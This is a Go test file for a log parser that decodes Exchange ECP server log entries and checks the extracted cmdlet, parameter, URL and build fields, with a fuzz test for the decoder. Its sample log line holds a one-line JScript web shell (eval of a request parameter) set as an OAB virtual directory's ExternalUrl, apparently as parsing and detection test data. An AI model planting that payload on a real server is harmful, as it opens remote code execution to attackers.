package logs

import (
	"context"
	"strings"
	"testing"
)

func TestEventDataFields(t *testing.T) {
	in := "#Software: Microsoft Exchange Server\n#Version: 15.0.0.0\n#Log-type: ECP Server Log\n#Date: 2021-03-03T06:00:00.000Z\n#Fields: TimeStamp,ServerName,EventId,EventData\n" +
		`2021-03-03T06:41:53.364Z,EX01,ECP.Request,"S:TIME=23;S:SID=5d3c;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""k""],""unsafe"");}</script>'.Identity='EX01\OAB (Default Web Site)';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory;S:EX=;S:BLD=15.1.2176.2"` + "\n"
	s := &Scanner{Format: CSV, All: true}
	var got map[string]string
	if _, err := s.Scan(context.Background(), strings.NewReader(in), func(r *Record) error {
		got = r.Fields([]string{"EventData.CMD", "EventData.Cmdlet", "EventData.Param.ExternalUrl", "EventData.Param.Identity", "EventData.URL", "EventData.BLD", "EventData.REQID", "EventData.nope"})
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	want := map[string]string{
		"EventData.Cmdlet":            "Set-OabVirtualDirectory",
		"EventData.Param.ExternalUrl": `http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["k"],"unsafe");}</script>`,
		"EventData.Param.Identity":    `EX01\OAB (Default Web Site)`,
		"EventData.URL":               "/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory",
		"EventData.BLD":               "15.1.2176.2",
		"EventData.REQID":             "",
	}
	for k, v := range want {
		if got[k] != v {
			t.Errorf("%s = %q, want %q", k, got[k], v)
		}
	}
	if _, ok := got["EventData.nope"]; ok {
		t.Error("unknown key reported present")
	}
	if !strings.HasPrefix(got["EventData.CMD"], "Set-OabVirtualDirectory.ExternalUrl='http://f/<script") {
		t.Errorf("CMD %q", got["EventData.CMD"])
	}
}

func FuzzEventData(f *testing.F) {
	f.Add("S:CMD=Set-X.A='a;b'.B=c;S:URL=/x;;S:=;")
	f.Add("'unterminated;S:K=v")
	f.Fuzz(func(t *testing.T, s string) {
		for _, kv := range DecodeEventData(s) {
			SplitCmdlet(kv[1])
		}
	})
}
